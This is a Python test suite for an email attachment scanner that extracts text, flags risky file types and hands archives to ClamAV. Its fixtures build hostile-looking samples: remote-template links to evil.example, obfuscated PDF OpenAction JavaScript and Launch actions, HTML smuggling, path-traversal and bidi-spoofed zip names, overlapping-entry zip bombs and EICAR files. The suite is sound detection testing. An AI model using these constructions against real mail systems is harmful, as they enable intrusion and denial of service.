#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Types, members, flags and text of attachments.

Each file goes through test_inspect, under the filter of a worker that may
least; what needs an engine (EICAR inside what libclamav does not open) goes
through the real scanner.
"""

import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from docs import (WORDS, ar, cab, cpio, docx, lha, lnk, local, lzw,
                  macros, odt,
                  ole2, onenote, pdf, pdf_file, pe, pptx, rar4, rar5, rpm,
                  rtf, stream, tar, vba_pack, xlsx, zipped)
from scanlib import (CLEAN, UNSCANNABLE, VIRUS, Cases, Scanner, eicar, mail)
from seen import TMP, Seen


def packed(tool, data, suffix):
    path = os.path.join(TMP, "in")
    with open(path, "wb") as f:
        f.write(data)
    if os.path.exists(path + suffix):
        os.unlink(path + suffix)
    subprocess.run(tool + [path], check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, cwd=TMP)
    with open(path + suffix, "rb") as f:
        return f.read()


def iso(name, data):
    d = tempfile.mkdtemp(dir=TMP)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    subprocess.run(["genisoimage", "-quiet", "-J", "-o", d + ".iso", d],
                   check=True, stderr=subprocess.DEVNULL)
    with open(d + ".iso", "rb") as f:
        return f.read()


def sevenzip(name, data, *args):
    d = tempfile.mkdtemp(dir=TMP)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    subprocess.run(["7z", "a", *args, "out.7z", name], check=True, cwd=d,
                   stdout=subprocess.DEVNULL)
    with open(os.path.join(d, "out.7z"), "rb") as f:
        return f.read()


def text_cases(c):
    for name, data in (("a.docx", docx()), ("a.xlsx", xlsx()),
                       ("a.pptx", pptx()), ("a.odt", odt()),
                       ("a.rtf", rtf()), ("a.pdf", pdf()),
                       ("b.pdf", pdf(packed=False)),
                       ("c.pdf", pdf(objstm=True)),
                       ("a.zip", zipped([("in/a.docx", docx())])),
                       ("a.tar.gz", __import__("gzip").compress(
                           tar([("x.rtf", rtf())])))):
        got = Seen(name, data)
        missing = [w for w in WORDS if w not in got.text]
        c.check("text-" + name, got.status == 0 and not missing,
                (missing, got))
    for shift in (b"", b"\1"):
        got = Seen("a.doc", ole2("WordDocument") + shift +
                   b"\r\0".join(w.encode("utf-16-le") for w in WORDS))
        c.check("text-a.doc", all(w in got.text for w in WORDS), got)
    source = ("Sub Document_Open()\r\n" + "".join(
        'MsgBox "%s %d"\r\n' % (w, i) for i in range(400)
        for w in ("confidential", "тайна")) + "End Sub\r\n")
    for name, data in (
            ("a.doc", macros(source.encode("cp1251"), b"second one\r\n")),
            ("a.docm", docx(extra=[("word/vbaProject.bin", macros(
                source.encode("cp1251"), b"second one\r\n"))]))):
        got = Seen(name, data)
        c.check("vba-" + name, got.status == 0 and "macros" in got.flags and
                'MsgBox "confidential 399"' in got.text and
                "тайна 399" in got.text and "second one" in got.text, got)
    # Modules that begin at each byte: not all is unpacked, and that is said.
    got = Seen("a.doc", ole2("VBA/", "dir") + vba_pack(b"Attribut" + b"e" * (
        4096 - 8)) + b"\1\5\xb0\0Attribut" * 100000)
    c.check("vba-many", got.status == 0, got)
    got = Seen("a.doc", ole2("VBA/", "dir") +
               b"\1\0\xb0\0Attribut" * 200000 + b"\0\xb0\0" * 600000)
    c.check("vba-nothing", got.status == 0, got)
    got = Seen("a.docx", docx())
    c.check("docx-others", "in the header ⚠" in got.text and
            "a <comment>" in got.text and got.files[0][1] == "docx" and
            len(got.files) == 1, got)
    got = Seen("a.pdf", pdf())
    c.check("pdf-plain", "plain (text) shown\nnext" in got.text and
            got.files[0][1] == "pdf" and not got.flags, got)
    many = ["%s %d" % (w, i) for w in WORDS for i in range(300)]
    for how in (["lzw"], ["lzw0"], ["runs"], ["hex"], ["85"],
                ["lzw", "85"], ["flate", "hex"], ["runs", "lzw", "hex"],
                ["hex", "85", "flate", "lzw"]):
        got = Seen("a.pdf", pdf(many, how=how))
        c.check("pdf-filters-" + "-".join(how), not got.flags and
                not [w for w in many if w not in got.text],
                (how, got.flags, len(got.text)))
    got = Seen("a.pdf", pdf(how=["hex"] * 5))
    c.check("pdf-filters-too-many", "partly-inspected" in got.flags, got)
    whole = pdf(many, how=["lzw"])
    got = Seen("a.pdf", whole.replace(lzw(b"begincmap")[:3], b"\377" * 3, 1)
               [:len(whole) // 2])
    c.check("pdf-lzw-damaged", got.status == 0, got)
    got = Seen("a.rtf", rtf())
    c.check("rtf-pages", all(w in got.text for w in (
        "内部资料", "대외비", "тайна")) and
            "hidden" not in got.text, got)
    for page in ("gbk", "utf-16", "utf-8-sig"):
        data = "内部机密文件".encode(page)
        got = Seen("a.zip", zipped([("n.txt", data)]))
        c.check("plain-" + page, "机密文件" in got.text, got)
    data = "대외비 기밀문서".encode("cp949")
    got = Seen("a.zip", zipped([("n.txt", data)]))
    c.check("plain-cp949", "기밀문서" in got.text, got)


def type_cases(c):
    for name, data, typ, flags in (
            ("a.exe", pe(), "pe", {"executable"}),
            ("invoice.pdf.exe", pe(), "pe",
             {"executable", "double-extension"}),
            ("a.pdf", pe(), "pe", {"executable", "type-mismatch"}),
            ("a.lnk", lnk(), "lnk", {"shortcut"}),
            ("a.js", b"var a = 1;", "js", {"script"}),
            ("a.one", onenote(pe()), "onenote",
             {"embedded-file", "executable"}),
            ("a.doc", ole2("WordDocument", "Macros/", "VBA/"), "doc",
             {"macros"}),
            ("a.doc", ole2("WordDocument", "ObjectPool/"), "doc",
             {"embedded-object"}),
            ("a.xls", ole2("Workbook", "Equation Native"), "xls",
             {"embedded-object", "equation-object"}),
            ("a.docx", ole2("EncryptedPackage"), "ole2", {"encrypted"}),
            ("a.docx", docx(extra=[("word/vbaProject.bin", ole2("VBA/"))]),
             "docx", {"macros"}),
            ("b.docx", docx(extra=[("word/embeddings/o.bin", b"x")]),
             "docx", {"embedded-object"}),
            ("c.docx", docx(extra=[("word/_rels/settings.xml.rels",
             '<R Type="http://x/attachedTemplate" Target="http://evil.example'
             '/t.dotm" TargetMode="External"/>')]), "docx",
             {"external-link"}),
            ("a.odt", odt(manifest="<m:encryption-data/>"), "odf",
             {"encrypted"}),
            ("a.rtf", b"{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}",
             "rtf", {"embedded-object", "open-action"}),
            ("b.rtf", b"{\\rtf1{\\*\\template http://evil.example/}}", "rtf",
             {"external-link"}),
            ("a.pdf", pdf_file([(1, b"<</OpenAction <</S /J#61vaScript "
                                 b"/#4AS (x)>> >>")]), "pdf",
             {"javascript", "open-action"}),
            ("b.pdf", pdf_file([(1, stream(
                b"2 0 <</S /Launch>>", b"/Type /ObjStm /N 1 /First 4"))]),
             "pdf", {"launch-action"}),
            ("c.pdf", pdf_file([(1, b"<</EmbeddedFile 3 0 R>>")]), "pdf",
             {"embedded-file"}),
            ("a.html", b"<html><script>var b=new Blob([atob('AAAA')]);"
             b"a.href=URL.createObjectURL(b);a.download='x.zip'</script>",
             "html", {"javascript", "html-smuggling"}),
            ("b.html", b"<html><a href='data:application/zip;base64,UEsDB' "
             b"download='x.zip'>", "html", {"html-smuggling"}),
            ("c.html", b"<html><p>hello</p></html>", "html", set()),
            ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(100) +
             zipped([("a.txt", b"text")]), "image", {"polyglot"})):
        got = Seen(name, data)
        c.check("type-%s-%s" % (typ, "+".join(sorted(flags)) or name),
                got.status == 0 and got.files[:1] and
                got.files[0][1] == typ and got.files[0][2] >= flags and
                (flags or not got.flags), got)


def archive_cases(c):
    inner = b"the members of it: confidential\n"
    for kind, data in (
            ("rar4", rar4(b"in.txt", inner)), ("rar5", rar5(b"in.txt", inner)),
            ("ar", ar(b"in.txt/", inner)),
            ("zst-tar", packed(["zstd", "-q"], tar([("in.txt", inner)]),
                               ".zst"))):
        got = Seen("a." + kind, data)
        c.check("opened-" + kind, got.status == 0 and not got.finding and
                "confidential" in got.text and len(got.scans) == 1 and
                any(f[3].endswith("in.txt") for f in got.files), got)
    # What ClamAV opens as well is not scanned twice.
    for kind, data, twice in (
            ("cpio", cpio(b"in.txt", inner), 0),
            ("cab", cab(b"in.txt", inner), 0),
            ("lha", lha(b"in.txt", inner), 0),
            ("iso", iso("in.txt", inner), 0),
            ("rpm", rpm(b"in.txt", inner), 1),
            ("lz", packed(["lzip"], tar([("in.txt", inner)]), ".lz"), 1),
            ("Z", packed(["compress", "-f"], tar([("in.txt", inner * 9)]),
                         ".Z"), 1)):
        got = Seen("a." + kind, data)
        c.check("opened-" + kind, got.status == 0 and not got.finding and
                "confidential" in got.text and len(got.scans) == twice and
                any(f[3].lower().endswith("in.txt") for f in got.files), got)
    for kind, data in (
            ("lz4", packed(["lz4", "-q", "-f", "-m"], inner, ".lz4")),
            ("zst", packed(["zstd", "-q"], inner, ".zst"))):
        got = Seen("a." + kind, data)
        c.check("opened-" + kind, got.status == 0 and not got.finding and
                "confidential" in got.text and len(got.scans) == 1, got)
    got = Seen("a.7z", sevenzip("기밀.txt", inner))
    c.check("names-7z", "confidential" in got.text and
            got.files[1][3] == "a.7z/기밀.txt" and not got.scans, got)
    got = Seen("a.7z", sevenzip("b.txt", inner, "-psecret"))
    c.check("encrypted-7z", "encrypted" in got.flags and
            "encrypted archive" in got.finding, got)
    got = Seen("a.rar", rar4(b"in.txt", inner)[:-30])
    c.check("cut-rar", "broken" in got.finding and
            "partly-inspected" in got.flags, got)
    got = Seen("a.zip", zipped([("../../x.exe", pe()),
                                ("a‮cod.exe", pe()), ("dir/", b"")]))
    c.check("names-zip", {"path-traversal", "bidi-override", "executable"} <=
            got.flags and [f[0] for f in got.files] == [0, 1, 1] and
            got.files[1][3] == "a.zip/../../x.exe", got)


def zip_cases(c):
    good = zipped([("a.txt", b"first member\n" * 10)])
    evil = local(b"evil.txt", b"the hidden text\n")
    end = good.index(b"PK\5\6")
    size, off = struct.unpack("<II", good[end + 12:end + 20])
    wide = good[:end] + struct.pack(
        "<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 1, 1, size, off) + \
        struct.pack("<IIQI", 0x07064b50, 0, end, 1) + struct.pack(
            "<IHHHHIIH", 0x06054b50, 0, 0, 65535, 65535, 0xffffffff,
            0xffffffff, 0)
    for name, data in (
            ("plain", good), ("zip64", wide),
            ("comment", zipped([("a", b"x")], comment=b"hi")),
            ("prepended", b"junk" * 100 + good), ("trailing", good + b"junk"),
            ("stored-zip-in-zip", zipped([("in.zip", good)],
                                         zipfile.ZIP_STORED))):
        got = Seen("a.zip", data)
        c.check("zip-" + name, got.status == 0 and
                "ambiguous-zip" not in got.flags and not got.scans and
                not got.finding, got)
    concatenated = zipped([("evil.txt", b"the hidden text\n")]) + good
    for name, data in (("local-only", evil + good),
                       ("no-directory", evil),
                       ("concatenated", concatenated)):
        got = Seen("a.zip", data)
        c.check("zip-" + name, "ambiguous-zip" in got.flags and
                "the hidden text" in got.text and any(
                    "the hidden text" in s for s in got.scans), got)
    # One has a name for it, the other another size and method.
    at = good.index(b"PK\1\2")
    other = good[:at] + good[at:].replace(b"a.txt", b"b.exe")
    got = Seen("a.zip", other)
    c.check("zip-two-names", "ambiguous-zip" in got.flags and
            {f[3] for f in got.files} >= {"a.zip/a.txt", "a.zip/b.exe"}, got)
    stored = bytearray(zipped([("a.txt", b"the hidden text\n")], 0))
    stored[8:10] = struct.pack("<H", 8)
    got = Seen("a.zip", bytes(stored))
    c.check("zip-two-methods", "ambiguous-zip" in got.flags and any(
        "the hidden text" in s for s in got.scans), got)
    lie = bytearray(good)
    lie[6] |= 1
    lie[at + 8] |= 1
    got = Seen("a.zip", bytes(lie))
    c.check("zip-false-encryption", "ambiguous-zip" in got.flags and
            got.scans and "encrypted" not in got.flags, got)
    many = zipped([("%d" % i, b"") for i in range(11000)], 0)
    got = Seen("a.zip", many + evil)
    c.check("zip-hidden-behind-limit", "ambiguous archive" in got.finding,
            got)
    got = Seen("a.zip", zipped([("a", bytes(20 << 20))]))
    c.check("zip-ratio", "bomb" in got.flags, got)


def overlapping(n):
    """Fifield's: one kernel of zeros, n entries that all end in it."""
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = z.compress(bytes(4 << 20)) + z.flush()
    head = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0, 1,
                       len(body), 4 << 20, 1, 0) + b"a"
    cen = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0, 1,
                      len(body), 4 << 20, 1, 0, 0, 0, 0, 0, 0) + b"a"
    return head + body + cen * n + struct.pack(
        "<IHHHHIIH", 0x06054b50, 0, 0, n, n, len(cen) * n,
        len(head) + len(body), 0)


def bombs(c):
    """An end, and the admission that it was not all."""
    nest = zipped([("a", bytes(1 << 20))])
    for i in range(30):
        nest = zipped([("%d.zip" % i, nest)])
    for name, data, flags in (
            ("many", zipped([("%d" % i, b"") for i in range(65535)], 0),
             set()),
            ("overlap", overlapping(65535), {"bomb", "ambiguous-zip"}),
            ("deep", nest, {"partly-inspected"}),
            ("headers", b"PK\3\4" * 500000, set()),
            ("pdf-streams", b"%PDF-1.4\n" + b"<<>>stream\nendstream\n"
             * 100000, {"partly-inspected"}),
            ("pdf-names", b"%PDF-1.4\n" + b"/" * 3000000, set()),
            ("pdf-parens", pdf_file([(1, stream(b"BT" + b"(" * 3000000))]),
             set()),
            ("rtf-deep", b"{\\rtf" + b"{" * 3000000, set()),
            ("xml-deep", zipped([("word/document.xml", b"<a>" * 2000000)]),
             set()),
            ("rtf-words", b"{\\rtf" + b"\\objdataa" * 300000, set())):
        start = time.monotonic()
        got = Seen("a", data)
        took = time.monotonic() - start
        print("# %s: %.2f s, with sanitizers" % (name, took))
        c.check("bomb-" + name, got.status == 0 and got.flags >= flags, got)


def confined(c):
    """Through the real scanner: what libclamav does not open is scanned."""
    s = Scanner(workers=1)
    try:
        s.ready()
        p = s.proxy()
        before = s.workers()
        bad, good = eicar(), b"nothing of interest\n"
        for what, make in (
                ("rar4", lambda d: rar4(b"a.com", d)),
                ("rar5", lambda d: rar5(b"a.com", d)),
                ("ar", lambda d: ar(b"a.com/", d)),
                ("zstd", lambda d: packed(["zstd", "-q"], d, ".zst")),
                ("lz4", lambda d: packed(["lz4", "-q", "-f", "-m"], d,
                                         ".lz4")),
                ("zstd-tar", lambda d: packed(["zstd", "-q"], tar(
                    [("a.com", d)]), ".zst")),
                ("cpio", lambda d: cpio(b"a.com", d)),
                ("cab", lambda d: cab(b"a.com", d)),
                ("lha", lambda d: lha(b"a.com", d)),
                ("iso", lambda d: iso("a.com", d)),
                ("rpm", lambda d: rpm(b"a.com", d)),
                ("lzip", lambda d: packed(["lzip"], d, ".lz")),
                ("compress", lambda d: packed(["compress", "-f"], tar(
                    [("a.com", d)]), ".Z")),
                ("rar-in-zip", lambda d: zipped([("x.rar", rar4(b"a", d))])),
                ("rar-in-rar", lambda d: rar4(b"x.rar", rar5(b"a.com", d))),
                ("7z-in-zstd", lambda d: packed(["zstd", "-q"], sevenzip(
                    "a.com", d), ".zst")),
                ("zip-local-only", lambda d: local(b"a.com", d, 8) +
                 zipped([("b.txt", b"text of it")]))):
            got = p.scan(*mail(make(bad)))
            c.check("eicar-" + what, got[0] == VIRUS and "icar" in got[2],
                    got)
            got = p.scan(*mail(make(good)))
            # The engine is right to call that one broken.
            want = UNSCANNABLE if what == "zip-local-only" else CLEAN
            c.check("clean-" + what, got[0] == want, got)
        got = p.scan(*mail(rar4(b"a", good)[:-30]))
        c.check("cut-is-unscannable", got[0] == UNSCANNABLE, got)
        for data in (docx(), xlsx(), pptx(), odt(), rtf(), pdf(),
                     pdf(objstm=True), onenote(b"x")):
            got = p.scan(*mail(data))
            c.check("clean-document", got[0] == CLEAN, got)
        c.check("same-worker", before == s.workers(), s.log())
    finally:
        s.close()


def without_engine(c):
    s = Scanner(workers=1, av="AV_NONE")
    try:
        s.ready()
        p = s.proxy()
        got = p.scan(*mail(docx()))
        c.check("none-clean", got[0] == CLEAN, got)
        got = p.scan(*mail(sevenzip("b.txt", b"text", "-psecret")))
        c.check("none-encrypted", got[0] == UNSCANNABLE, got)
    finally:
        s.close()


def main():
    c = Cases()
    try:
        for run in (text_cases, type_cases, archive_cases, zip_cases, bombs,
                    confined, without_engine):
            run(c)
    finally:
        shutil.rmtree(TMP)
    c.exit()


main()
